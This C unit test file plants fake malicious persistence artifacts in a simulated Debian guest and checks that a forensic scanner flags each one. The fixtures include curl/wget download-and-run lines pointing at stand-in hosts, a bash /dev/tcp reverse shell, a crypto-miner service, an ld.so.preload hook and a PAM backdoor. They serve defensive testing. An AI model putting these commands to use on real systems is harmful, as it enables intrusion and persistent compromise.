/* SPDX-License-Identifier: BSD-3-Clause */
/* Unit tests: the persistence checks (checks/persist.c) on a fake
 * Debian 12 guest: a clean tree gives nothing above low, a planted one
 * gives each expected finding, hostile files give errors, not crashes. */
#include <config.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "check-harness.h"
#include "core/pkgdb.h"
#include "tap.h"
#include "base/util.h"

/* Persistence findings matching all of the given fields (evidence: a
 * substring). */
#define nfind(t, check, sev, path, ev, mitre) \
  vs_test_nfind (t, "persistence", check, sev, path, ev, mitre)

static void
debian_base (struct vs_test_guest *t)
{
  vs_test_mkdir (t, "/usr/lib", 0755);
  vs_test_mkdir (t, "/usr/bin", 0755);
  vs_test_symlink (t, "/lib", "usr/lib");
  vs_test_symlink (t, "/bin", "usr/bin");
  vs_test_write (t, "/etc/passwd",
                 "root:x:0:0:root:/root:/bin/bash\n"
                 "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                 "bin:x:2:2:bin:/bin:/usr/sbin/nologin\n"
                 "sync:x:4:65534:sync:/bin:/bin/sync\n"
                 "man:x:6:12:man:/var/cache/man:/usr/sbin/nologin\n"
                 "nobody:x:65534:65534:nobody:/nonexistent:"
                 "/usr/sbin/nologin\n"
                 "_apt:x:42:65534::/nonexistent:/usr/sbin/nologin\n"
                 "sshd:x:100:65534::/run/sshd:/usr/sbin/nologin\n", 0644);
  vs_test_write (t, "/etc/crontab",
                 "# /etc/crontab: system-wide crontab\n"
                 "SHELL=/bin/sh\n"
                 "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:"
                 "/usr/bin\n\n"
                 "17 *\t* * *\troot\tcd / && run-parts --report "
                 "/etc/cron.hourly\n"
                 "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || "
                 "{ cd / && run-parts --report /etc/cron.daily; }\n"
                 "47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || "
                 "{ cd / && run-parts --report /etc/cron.weekly; }\n", 0644);
  vs_test_write (t, "/etc/cron.d/e2scrub_all",
                 "30 3 * * 0 root test -e /run/systemd/system || "
                 "SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/"
                 "e2scrub_all_cron\n"
                 "10 3 * * * root test -e /run/systemd/system || "
                 "SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n", 0644);
  vs_test_write (t, "/etc/cron.d/.placeholder",
                 "# DO NOT EDIT OR REMOVE\n", 0644);
  vs_test_write (t, "/etc/cron.daily/dpkg",
                 "#!/bin/sh\n\n# Skip if systemd is running.\n"
                 "if [ -d /run/systemd/system ]; then\n    exit 0\nfi\n\n"
                 "/usr/libexec/dpkg/dpkg-db-backup\n", 0755);
  vs_test_write (t, "/etc/cron.daily/apt-compat",
                 "#!/bin/sh\nset -e\n"
                 "if [ -d /run/systemd/system ]; then\n    exit 0\nfi\n"
                 "check_power()\n{\n    return 0\n}\n"
                 "exec /usr/lib/apt/apt.systemd.daily\n", 0755);
  vs_test_write (t, "/usr/lib/systemd/system/cron.service",
                 "[Unit]\nDescription=Regular background program "
                 "processing daemon\n\n[Service]\n"
                 "EnvironmentFile=-/etc/default/cron\n"
                 "ExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\n"
                 "IgnoreSIGPIPE=false\nKillMode=process\n"
                 "Restart=on-failure\n\n[Install]\n"
                 "WantedBy=multi-user.target\n", 0644);
  vs_test_write (t, "/usr/lib/systemd/system/ssh.service",
                 "[Unit]\nDescription=OpenBSD Secure Shell server\n\n"
                 "[Service]\nExecStartPre=/usr/sbin/sshd -t\n"
                 "ExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n"
                 "ExecReload=/usr/sbin/sshd -t\n"
                 "ExecReload=/bin/kill -HUP $MAINPID\n\n[Install]\n"
                 "WantedBy=multi-user.target\nAlias=sshd.service\n", 0644);
  vs_test_write (t, "/usr/lib/systemd/system/apt-daily.timer",
                 "[Unit]\nDescription=Daily apt download activities\n\n"
                 "[Timer]\nOnCalendar=*-*-* 6,18:00\n"
                 "RandomizedDelaySec=12h\nPersistent=true\n\n[Install]\n"
                 "WantedBy=timers.target\n", 0644);
  vs_test_symlink (t, "/etc/systemd/system/multi-user.target.wants/"
                   "cron.service", "/lib/systemd/system/cron.service");
  vs_test_symlink (t, "/etc/systemd/system/multi-user.target.wants/"
                   "ssh.service", "/lib/systemd/system/ssh.service");
  vs_test_symlink (t, "/etc/systemd/system/sshd.service",
                   "/lib/systemd/system/ssh.service");
  vs_test_symlink (t, "/etc/systemd/system/timers.target.wants/"
                   "apt-daily.timer", "/lib/systemd/system/apt-daily.timer");
  vs_test_write (t, "/usr/lib/systemd/system-generators/"
                 "systemd-fstab-generator", "\177ELF binary", 0755);
  vs_test_write (t, "/etc/profile",
                 "if [ \"$(id -u)\" -eq 0 ]; then\n"
                 "  PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:"
                 "/sbin:/bin\"\nelse\n"
                 "  PATH=\"/usr/local/bin:/usr/bin:/bin:/usr/local/games:"
                 "/usr/games\"\nfi\nexport PATH\n"
                 "if [ -d /etc/profile.d ]; then\n"
                 "  for i in /etc/profile.d/*.sh; do\n"
                 "    if [ -r $i ]; then\n      . $i\n    fi\n  done\n"
                 "  unset i\nfi\n", 0644);
  vs_test_write (t, "/etc/bash.bashrc",
                 "[ -z \"$PS1\" ] && return\nshopt -s checkwinsize\n"
                 "#    PROMPT_COMMAND='echo -ne \"\\033]0;${USER}@${HOSTNAME}"
                 ": ${PWD}\\007\"'\n", 0644);
  vs_test_write (t, "/etc/profile.d/bash_completion.sh",
                 "if [ -n \"${BASH_VERSION-}\" -a -n \"${PS1-}\" ]; then\n"
                 "    if [ -r /usr/share/bash-completion/bash_completion ];"
                 " then\n        . /usr/share/bash-completion/"
                 "bash_completion\n    fi\nfi\n", 0644);
  vs_test_write (t, "/root/.bashrc",
                 "# ~/.bashrc: executed by bash(1) for non-login shells.\n"
                 "export LS_OPTIONS='--color=auto'\n"
                 "# alias ls='ls $LS_OPTIONS'\n", 0644);
  vs_test_write (t, "/root/.profile",
                 "if [ \"$BASH\" ]; then\n  if [ -f ~/.bashrc ]; then\n"
                 "    . ~/.bashrc\n  fi\nfi\nmesg n 2> /dev/null || true\n",
                 0644);
  vs_test_write (t, "/etc/ld.so.conf",
                 "include /etc/ld.so.conf.d/*.conf\n\n", 0644);
  vs_test_write (t, "/etc/ld.so.conf.d/libc.conf",
                 "# libc default configuration\n/usr/local/lib\n", 0644);
  vs_test_write (t, "/etc/ld.so.conf.d/x86_64-linux-gnu.conf",
                 "# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n"
                 "/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n", 0644);
  vs_test_write (t, "/etc/pam.d/common-auth",
                 "auth\t[success=1 default=ignore]\tpam_unix.so nullok\n"
                 "auth\trequisite\t\t\tpam_deny.so\n"
                 "auth\trequired\t\t\tpam_permit.so\n", 0644);
  vs_test_write (t, "/etc/pam.d/sshd",
                 "@include common-auth\n"
                 "account    required     pam_nologin.so\n"
                 "session [success=ok ignore=ignore module_unknown=ignore "
                 "default=bad]        pam_selinux.so close\n"
                 "-session optional pam_systemd.so\n", 0644);
  vs_test_write (t, "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
                 "\177ELF", 0644);
  vs_test_write (t, "/usr/lib/x86_64-linux-gnu/security/pam_deny.so",
                 "\177ELF", 0644);
  vs_test_write (t, "/usr/lib/x86_64-linux-gnu/security/pam_permit.so",
                 "\177ELF", 0644);
  vs_test_write (t, "/usr/lib/x86_64-linux-gnu/security/pam_nologin.so",
                 "\177ELF", 0644);
  vs_test_write (t, "/usr/lib/udev/rules.d/60-persistent-storage.rules",
                 "ACTION==\"remove\", GOTO=\"persistent_storage_end\"\n"
                 "KERNEL==\"sd*[!0-9]\", IMPORT{program}=\"ata_id "
                 "--export $devnode\"\n", 0644);
  vs_test_write (t, "/etc/update-motd.d/10-uname",
                 "#!/bin/sh\nuname -snrvm\n", 0755);
  vs_test_write (t, "/etc/init.d/cron",
                 "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: cron\n"
                 "### END INIT INFO\nDAEMON=/usr/sbin/cron\n"
                 "start-stop-daemon --start --quiet --exec $DAEMON\n", 0755);
  vs_test_symlink (t, "/etc/rc2.d/S01cron", "../init.d/cron");
}

static void
plant (struct vs_test_guest *t)
{
  char *big;
  size_t i;

  vs_test_write (t, "/etc/cron.d/sysupdate",
                 "*/5 * * * * root curl -fsSL http://1.2.3.4/x.sh | sh\n",
                 0644);
  vs_test_write (t, "/var/spool/cron/crontabs/root",
                 "@reboot /tmp/.x/kworkerds >/dev/null 2>&1\n", 0600);
  vs_test_write (t, "/etc/systemd/system/sysupdate.service",
                 "[Service]\nExecStart=/opt/.cache/xmrig -o "
                 "stratum+tcp://pool.example:3333\n[Install]\n"
                 "WantedBy=multi-user.target\n", 0644);
  vs_test_symlink (t, "/etc/systemd/system/multi-user.target.wants/"
                   "sysupdate.service", "../sysupdate.service");
  vs_test_write (t, "/etc/systemd/system/helper.service",
                 "[Service]\nExecStart=/usr/local/bin/helper --daemon\n",
                 0644);
  vs_test_symlink (t, "/etc/systemd/system/multi-user.target.wants/"
                   "helper.service", "/etc/systemd/system/helper.service");
  vs_test_write (t, "/opt/elsewhere/hidden.service",
                 "[Service]\nExecStart=/usr/bin/python3 -c 'import socket,"
                 "os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'\n",
                 0644);
  vs_test_symlink (t, "/etc/systemd/system/default.target.wants/"
                   "hidden.service", "/opt/elsewhere/hidden.service");
  vs_test_write (t, "/etc/systemd/system/update.timer",
                 "[Timer]\nOnBootSec=5min\nUnit=sysupdate.service\n", 0644);
  vs_test_write (t, "/etc/systemd/system-generators/gen",
                 "#!/bin/sh\necho hello > /run/x\n", 0755);
  vs_test_write (t, "/etc/rc.local",
                 "#!/bin/sh -e\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
                 "exit 0\n", 0755);
  vs_test_write (t, "/etc/profile.d/zz-update.sh",
                 "wget -q -O- http://evil.example/u | bash\n", 0644);
  vs_test_write (t, "/root/.bashrc",
                 "export LS_OPTIONS='--color=auto'\n"
                 "alias sudo='/usr/local/bin/.s'\n", 0644);
  vs_test_write (t, "/etc/ld.so.preload",
                 "/usr/local/lib/libprocesshider.so\n", 0644);
  vs_test_write (t, "/usr/local/lib/libprocesshider.so", "\177ELF", 0644);
  vs_test_write (t, "/etc/ld.so.conf.d/zz.conf", "/dev/shm/.lib\n", 0644);
  vs_test_write (t, "/etc/pam.d/common-auth",
                 "auth\tsufficient\tpam_permit.so\n"
                 "auth\t[success=1 default=ignore]\tpam_unix.so nullok\n"
                 "auth\toptional\t/tmp/pam_evil.so\n"
                 "auth\toptional\tpam_exec.so quiet /usr/local/bin/log.sh\n",
                 0644);
  vs_test_write (t, "/tmp/pam_evil.so", "\177ELF", 0644);
  vs_test_write (t, "/etc/udev/rules.d/99-evil.rules",
                 "ACTION==\"add\", RUN+=\"/bin/sh -c 'curl http://x.example/"
                 "p | sh'\"\n", 0644);
  vs_test_write (t, "/etc/update-motd.d/99-x",
                 "#!/bin/sh\nnohup /var/tmp/.k/run &\n", 0755);
  vs_test_write (t, "/root/.config/autostart/upd.desktop",
                 "[Desktop Entry]\nType=Application\nExec=/tmp/upd\n",
                 0644);
  vs_test_write (t, "/var/spool/cron/atjobs/a0000101a",
                 "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n"
                 "cd /root || {\n\t echo 'Execution directory "
                 "inaccessible' >&2\n\t exit 1\n}\n"
                 "/usr/bin/id > /root/o\n", 0700);
  vs_test_write (t, "/tmp/evil", "#!/bin/sh\n", 0755);
  vs_test_symlink (t, "/etc/rc3.d/S99evil", "/tmp/evil");

  /* Hostile input. */
  big = vs_xmalloc (300001);
  memcpy (big, "* * * * * root ", 15);
  for (i = 15; i < 300000; i++)
    big[i] = 'A';
  big[300000] = '\0';
  vs_test_write (t, "/etc/cron.d/bigline", big, 0644);
  free (big);
  vs_test_write_len (t, "/etc/cron.d/binary",
                     "* * * * * root \xff\xfe/usr/bin/x\0y\n\x80\x80\n", 31,
                     0644);
  vs_test_mkdir (t, "/etc/cron.d/adir", 0755);
  vs_test_symlink (t, "/etc/cron.d/loop", "loop2");
  vs_test_symlink (t, "/etc/cron.d/loop2", "loop");
  vs_test_symlink (t, "/etc/systemd/system/loop.service", "loop.service");
  {
    char *fifo = vs_xasprintf ("%s/etc/cron.d/fifo", t->root);

    if (mkfifo (fifo, 0644) == -1)
      printf ("# mkfifo failed\n");
    free (fifo);
  }
  big = vs_xmalloc ((5u << 20) + 1);
  memset (big, '#', 5u << 20);
  big[5u << 20] = '\0';
  vs_test_write (t, "/etc/profile.d/huge.sh", big, 0644);
  free (big);
}

/* The findings of the checks not skipped below, per check id. */
#define OTHERS_SQL "SELECT group_concat(check_id || ':' || n, ' ') FROM " \
  "(SELECT check_id, count(*) AS n FROM findings WHERE check_id NOT IN " \
  "('persistence.cron', 'persistence.systemd-timer') GROUP BY check_id " \
  "ORDER BY check_id)"

int
main (void)
{
  struct vs_test_guest t;
  unsigned char skip[VS_CK_COUNT];
  char *s, *others;

  tap_plan (37);

  /* A clean Debian 12 tree. */
  vs_test_guest_init (&t);
  debian_base (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  tap_ok (vs_check_persistence (&t.ctx) == 0, "clean: check runs");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "severity_rank > 1") == 0,
          "clean: nothing above low");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "check_id = 'persistence.cron' AND path = "
                         "'/etc/cron.d/e2scrub_all'") == 2,
          "clean: e2scrub_all jobs reported, low at most");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "check_id = 'persistence.systemd' AND path = "
                         "'/usr/lib/systemd/system/ssh.service' AND "
                         "evidence LIKE '%ExecStart=/usr/sbin/sshd -D%' AND "
                         "evidence LIKE '%[enabled]%'") == 1,
          "clean: ssh.service seen once through its alias, enabled");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM check_runs WHERE "
                         "check_id LIKE 'persistence.%' AND status = 'ran'")
          == 15, "clean: every persistence check ran");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors") == 0,
          "clean: no errors");
  if (getenv ("VS_TEST_DUMP"))
    vs_test_dump_findings (&t);
  vs_test_guest_free (&t);

  /* The same with malicious items planted. */
  vs_test_guest_init (&t);
  debian_base (&t);
  plant (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  tap_ok (vs_check_persistence (&t.ctx) == 0, "planted: check runs");
  tap_ok (nfind (&t, "persistence.cron", "high", "/etc/cron.d/sysupdate",
                 "curl -fsSL http://1.2.3.4/x.sh | sh", "T1053.003") == 1,
          "cron job piping curl to sh is high");
  tap_ok (nfind (&t, "persistence.cron", "high",
                 "/var/spool/cron/crontabs/root", "@reboot /tmp/.x/kworkerds",
                 "T1053.003") == 1, "@reboot from a hidden /tmp dir is high");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE path = "
                         "'/var/spool/cron/crontabs/root' AND account = "
                         "'root'") == 1, "user crontab names its account");
  tap_ok (nfind (&t, "persistence.systemd", "high",
                 "/etc/systemd/system/sysupdate.service",
                 "ExecStart=/opt/.cache/xmrig -o stratum+tcp://",
                 "T1543.002") == 1, "miner service is high");
  tap_ok (nfind (&t, "persistence.systemd", "medium",
                 "/etc/systemd/system/helper.service",
                 "ExecStart=/usr/local/bin/helper", "T1543.002") == 1,
          "enabled unit not from a package is medium");
  tap_ok (nfind (&t, "persistence.systemd", "high",
                 "/opt/elsewhere/hidden.service", "socket.socket()",
                 "T1543.002") == 1,
          "unit enabled from outside the unit directories is found");
  tap_ok (nfind (&t, "persistence.systemd-timer", "low",
                 "/etc/systemd/system/update.timer", "OnBootSec=5min",
                 "T1053.006") == 1, "timer reported");
  tap_ok (nfind (&t, "persistence.systemd-generator", "medium",
                 "/etc/systemd/system-generators/gen", "echo hello",
                 "T1543.002") == 1, "generator in /etc is medium");
  tap_ok (nfind (&t, "persistence.rc-local", "high", "/etc/rc.local",
                 "bash -i >& /dev/tcp/10.0.0.1/4444", "T1037.004") == 1,
          "reverse shell in rc.local is high");
  tap_ok (nfind (&t, "persistence.shell-startup", "high",
                 "/etc/profile.d/zz-update.sh", "wget -q -O- "
                 "http://evil.example/u | bash", "T1546.004") == 1,
          "download-and-run in profile.d is high");
  tap_ok (nfind (&t, "persistence.shell-startup", "medium", "/root/.bashrc",
                 "alias sudo=", "T1546.004") == 1,
          "sudo alias in root's .bashrc is medium");
  tap_ok (nfind (&t, "persistence.ld-preload", "high", "/etc/ld.so.preload",
                 "/usr/local/lib/libprocesshider.so (exists",
                 "T1574.006") == 1, "ld.so.preload hook is high");
  tap_ok (nfind (&t, "persistence.ld-so-conf", "high",
                 "/etc/ld.so.conf.d/zz.conf", "/dev/shm/.lib",
                 "T1574.006") == 1, "library path in /dev/shm is high");
  tap_ok (nfind (&t, "persistence.pam", "high", "/etc/pam.d/common-auth",
                 "sufficient\tpam_permit.so", "T1556.003") == 1,
          "pam_permit sufficient is high");
  tap_ok (nfind (&t, "persistence.pam", "high", "/tmp/pam_evil.so",
                 "/tmp/pam_evil.so", "T1556.003") == 1,
          "PAM module outside the module directories is high");
  tap_ok (nfind (&t, "persistence.pam-exec", "medium",
                 "/etc/pam.d/common-auth", "pam_exec.so quiet",
                 "T1556.003") == 1, "pam_exec is medium");
  tap_ok (nfind (&t, "persistence.udev", "high",
                 "/etc/udev/rules.d/99-evil.rules", "RUN+=", "T1546") == 1,
          "udev rule running curl | sh is high");
  tap_ok (nfind (&t, "persistence.motd", "high", "/etc/update-motd.d/99-x",
                 "nohup /var/tmp/.k/run", "T1546") == 1,
          "motd script from /var/tmp is high");
  tap_ok (nfind (&t, "persistence.xdg-autostart", "high",
                 "/root/.config/autostart/upd.desktop", "Exec=/tmp/upd",
                 "T1547.013") == 1, "autostart from /tmp is high");
  tap_ok (nfind (&t, "persistence.at", "medium",
                 "/var/spool/cron/atjobs/a0000101a", "/usr/bin/id > /root/o",
                 "T1053.002") == 1, "at job is medium, its command shown");
  tap_ok (nfind (&t, "persistence.initd", "high", "/etc/rc3.d/S99evil",
                 "/tmp/evil", "T1037.004") == 1,
          "runlevel link to /tmp is high");
  s = vs_test_text (&t, "SELECT length(evidence) || ' ' || substr(evidence, "
                    "-3) FROM findings WHERE path = '/etc/cron.d/bigline'");
  tap_is_str (s, "515 ...", "huge cron line: evidence shortened with ...");
  free (s);
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE path = "
                         "'/etc/cron.d/binary' AND instr(evidence, "
                         "x'fffe2f7573722f62696e2f785c3079') > 0") == 1,
          "invalid UTF-8 and NUL kept as bytes in evidence");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors WHERE path IN "
                         "('/etc/cron.d/fifo', '/etc/cron.d/adir', "
                         "'/etc/cron.d/loop', '/etc/profile.d/huge.sh', "
                         "'/etc/systemd/system/loop.service')") == 5,
          "fifo, directory, symlink loops and a huge file are errors");
  others = vs_test_text (&t, OTHERS_SQL);
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "IN ('persistence.cron', "
                         "'persistence.systemd-timer')") > 1
          && others && strstr (others, "persistence.systemd:"),
          "planted: cron, timer and systemd findings to skip or keep");
  vs_test_guest_free (&t);

  /* --skip-check: a check with a function of its own (cron) and one that
   * shares its pass (the timers of the systemd check). */
  vs_test_guest_init (&t);
  debian_base (&t);
  plant (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  memset (skip, 0, sizeof skip);
  skip[VS_CK_PERSISTENCE_CRON] = skip[VS_CK_PERSISTENCE_SYSTEMD_TIMER] = 1;
  t.ctx.skip = skip;
  tap_ok (vs_check_persistence (&t.ctx) == 0, "skipped: check runs");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "IN ('persistence.cron', "
                         "'persistence.systemd-timer')") == 0,
          "skipped: no finding of the skipped checks");
  s = vs_test_text (&t, OTHERS_SQL);
  tap_is_str (s, others, "skipped: the other checks' findings unchanged");
  free (s);
  free (others);
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM check_runs WHERE "
                         "check_id IN ('persistence.cron', "
                         "'persistence.systemd-timer') AND status = "
                         "'skipped' AND note = '--skip-check' AND items = 0")
          == 2, "skipped: their check_runs rows say skipped, --skip-check");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM check_runs WHERE "
                         "status = 'ran'") == 13,
          "skipped: the 13 others ran");
  vs_test_guest_free (&t);
  return tap_done ();
}
